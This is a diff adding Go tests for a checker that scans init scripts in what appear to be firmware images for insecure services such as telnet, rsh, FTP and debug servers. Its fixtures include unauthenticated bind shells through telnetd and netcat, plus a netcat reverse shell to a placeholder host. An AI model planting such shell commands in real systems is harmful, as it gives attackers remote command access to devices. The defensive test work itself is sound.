@@ -1,0 +1,55 @@
+package insecureservice
+
+import (
+	"strings"
+	"testing"
+
+	"assay/lab/check/checktest"
+	"assay/lab/fact"
+)
+
+func start(line string, conditional bool) fact.Startup {
+	w := strings.Fields(line)
+	return fact.Startup{Syntax: "script", Command: line, Program: w[0], Args: w[1:], Conditional: conditional, Line: len(line)}
+}
+
+func TestFlawed(t *testing.T) {
+	im := &checktest.Image{}
+	im.File("bin/busybox", 0o755).Link("bin/telnetd", "busybox").Link("bin/tftpd", "busybox").Link("usr/bin/gdbserver", "../x").
+		File("etc/init.d/rcS", 0o755, start("/bin/telnetd -p 2323 -l /bin/sh &", false), start("vsftpd", true), start("telnetd", false),
+			start("/usr/sbin/in.rshd", true), start("/bin/nc -lp 9 -e /bin/ash", false)).
+		File("etc/init.d/ftp", 0o755, start("/usr/sbin/vsftpd", false)).
+		File("usr/sbin/vsftpd", 0o755)
+	im.Want(t, Check,
+		"critical shell: /bin/telnetd -p 2323 -l /bin/sh & @ etc/init.d/rcS:33",
+		"critical shell: /bin/nc -lp 9 -e /bin/ash @ etc/init.d/rcS:25",
+		"high telnet: telnetd @ etc/init.d/rcS:7",
+		"medium ftp: vsftpd (under a condition) @ etc/init.d/rcS:6",
+		"high rcommands: in.rshd (under a condition) @ etc/init.d/rcS:17",
+		"info present: TFTP server @ bin/tftpd",
+		"info present: debug server @ usr/bin/gdbserver")
+}
+
+func TestInstalled(t *testing.T) {
+	im := &checktest.Image{}
+	im.File("etc/init.d/rcS", 0o755, start("/usr/sbin/httpd", false)).
+		File("etc/init.d/ftp", 0o755, start("/usr/sbin/vsftpd", false)).
+		File("etc/init.d/debug", 0o755, start("/usr/sbin/telnetd -l/bin/sh", false))
+	im.Want(t, Check,
+		"low ftp: vsftpd (nothing that was read leads to this start-up file) @ etc/init.d/ftp:16",
+		"high shell: /usr/sbin/telnetd -l/bin/sh (nothing that was read leads to this start-up file) @ etc/init.d/debug:27")
+}
+
+func TestClean(t *testing.T) {
+	im := &checktest.Image{}
+	im.File("usr/sbin/dropbear", 0o755).File("usr/sbin/dnsmasq", 0o755).File("bin/nc", 0o755).File("usr/share/telnetd", 0o644).
+		Link("usr/bin/telnet", "busybox").Link("usr/bin/tftp", "busybox").
+		File("etc/init.d/rcS", 0o755, start("/usr/sbin/dropbear -F", false), start("dnsmasq -C /etc/dnsmasq.conf", false), start("/bin/nc -e /bin/sh host 9", false))
+	im.Want(t, Check)
+}
+
+func TestLogin(t *testing.T) {
+	im := &checktest.Image{}
+	im.File("etc/init.d/rcS", 0o755, start("/usr/sbin/telnetd -l /bin/login", false))
+	im.Want(t, Check, "high telnet: telnetd @ etc/init.d/rcS:31")
+}
